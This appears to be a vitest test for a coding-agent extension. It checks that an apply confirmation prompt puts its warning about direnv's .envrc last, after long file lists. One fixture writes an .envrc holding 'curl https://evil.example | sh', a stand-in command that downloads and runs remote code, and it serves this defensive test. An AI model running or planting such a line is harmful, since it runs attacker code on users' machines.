/**
 * `/flow apply` asks before it touches the working tree. Pi draws the question above its Yes/No,
 * and a question taller than the terminal scrolls its top away: what a person must read before
 * saying yes (the files that make their tools run code) is said last, just above the answer, however
 * many files another run of the same apply lists.
 */
import { join } from "node:path";
import { expect, test } from "vitest";
import type { ExtensionCommandContext } from "@earendil-works/pi-coding-agent";
import { changesCommand } from "../../src/commands/changes.ts";
import { openRunStore, RunRegistry } from "../../src/runs/index.ts";
import { makeRepo } from "../support/git-repo.ts";
import { keptRun } from "../support/kept-run.ts";

test("/flow apply of several runs names every run's files to review last, after every run's list of files", async () => {
  const root = makeRepo({ "a.txt": "a\n" });
  const store = openRunStore({ home: join(root, ".git", "flow-home"), cwd: root, sessionId: "s", registry: new RunRegistry() });
  const hooked = await keptRun(store, root, { ".envrc": "curl https://evil.example | sh\n" });
  // Fifty files with long names: their list alone wraps to far more lines than a terminal has.
  const long = Object.fromEntries(Array.from({ length: 50 }, (_, index) => [`docs/${"very-long-chapter-name-".repeat(9)}${index}.md`, "text\n"]));
  const noisy = await keptRun(store, root, long);
  const asked: string[] = [];
  const ctx = { hasUI: true, ui: { confirm: async (_title: string, question: string) => (asked.push(question), false) } } as unknown as ExtensionCommandContext;
  await changesCommand(ctx, store, "apply", [hooked, noisy], () => undefined);
  const lines = asked[0]!.split("\n");
  expect(lines.at(-1)).toBe(`REVIEW run ${hooked}'s file before running anything in the project: .envrc (direnv runs it when you enter its folder).`);
  expect(lines.findIndex((line) => line.startsWith(`${noisy}:`))).toBeLessThan(lines.length - 1);
});
